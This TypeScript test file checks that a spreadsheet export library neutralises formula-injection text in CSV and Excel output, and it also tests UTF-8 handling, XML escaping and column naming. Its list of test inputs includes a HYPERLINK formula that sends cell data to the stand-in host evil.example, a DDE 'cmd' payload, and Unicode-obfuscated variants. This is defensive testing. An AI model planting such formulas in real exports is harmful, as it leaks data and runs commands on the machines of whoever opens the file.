import { harmlessText, isRisky } from '@sala/contract/core/spreadsheet/cells.ts';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';
import { toXlsx } from './xlsx.ts';

/** Cell texts of customers that would run as formulas on the computer of the person who opens the export. */
const attacks = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  '\rtext',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u001b@A1',
  ' \t \u200b+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1+cmd',
  '﹢1',
  '+855 12 345 678',
];
const harmless = ['Sophea', 'a=b', '1 + 1', 'name@lotus.example', '«=»', '១-២', '', '(=1)', "'=1"];

describe('a cell', () => {
  it.each(attacks)('%j cannot run', (text) => {
    expect(isRisky(text)).toBe(true);
    expect(harmlessText(text)).toBe(`'${text}`);
  });

  it.each(harmless)('%j stays as it is', (text) => {
    expect(harmlessText(text)).toBe(text);
  });
});

describe('a CSV file', () => {
  it('is read as UTF-8 by Excel, and keeps quotes, commas and line breaks inside a cell', () => {
    const csv = toCsv([
      ['ឈ្មោះ', '数量'],
      ['Say "hi", twice\nplease', -3.5],
      [null, true],
    ]);
    expect(csv).toBe('\ufeff"ឈ្មោះ","数量"\r\n"Say ""hi"", twice\nplease","-3.5"\r\n,"true"\r\n');
  });

  it('runs nothing, whoever wrote it', () => {
    for (const text of attacks) expect(toCsv([[text]])).toContain(`"'`);
  });
});

describe('an Excel workbook', () => {
  const open = (rows: Parameters<typeof toXlsx>[1], title = 'People') => {
    const files = unzipSync(toXlsx(title, rows));
    return (path: string) => strFromU8(files[path]!);
  };

  it('holds text as text, numbers as numbers, and survives signs that XML has none of', () => {
    const sheet = open([
      ['Name', 'Orders', 'Active'],
      ['<b>&\u0001ចាន់ "សុភា"', 12.5, false],
    ])('xl/worksheets/sheet1.xml');
    expect(sheet).toContain('&lt;b&gt;&amp;ចាន់ &quot;សុភា&quot;');
    expect(sheet).toContain('<c r="B2"><v>12.5</v></c>');
    expect(sheet).toContain('<c r="C2" t="b"><v>0</v></c>');
    const parsed = new DOMParser().parseFromString(sheet, 'application/xml');
    expect(parsed.querySelectorAll('row')).toHaveLength(2);
  });

  it('names its cells past Z as spreadsheets do', () => {
    const sheet = open([Array.from({ length: 703 }, (_, index) => index)])('xl/worksheets/sheet1.xml');
    expect([25, 26, 51, 52, 701, 702].map((index) => new RegExp(`r="(\\w+)"><v>${index}<`).exec(sheet)![1])).toEqual([
      'Z1',
      'AA1',
      'AZ1',
      'BA1',
      'ZZ1',
      'AAA1',
    ]);
  });

  it('has no formula, and keeps what looks like one text even after it is edited', () => {
    for (const text of attacks) {
      const sheet = open([['Name'], [text]])('xl/worksheets/sheet1.xml');
      expect(sheet).not.toContain('<f>');
      expect(sheet).toContain('<c r="A2" s="2" t="inlineStr">');
    }
  });

  it('opens whatever the list is called and however long a text is', () => {
    const workbook = open([['A'], ['ខ'.repeat(40_000)]], "Orders: [2026]/11 'all' of every single department");
    expect(/<sheet name="([^"]*)"/.exec(workbook('xl/workbook.xml'))![1]!.length).toBeLessThanOrEqual(31);
    expect(workbook('xl/workbook.xml')).not.toMatch(/name="[^"]*[[\]:/']/);
    expect(/ខ+/.exec(workbook('xl/worksheets/sheet1.xml'))![0]).toHaveLength(32_767);
  });
});
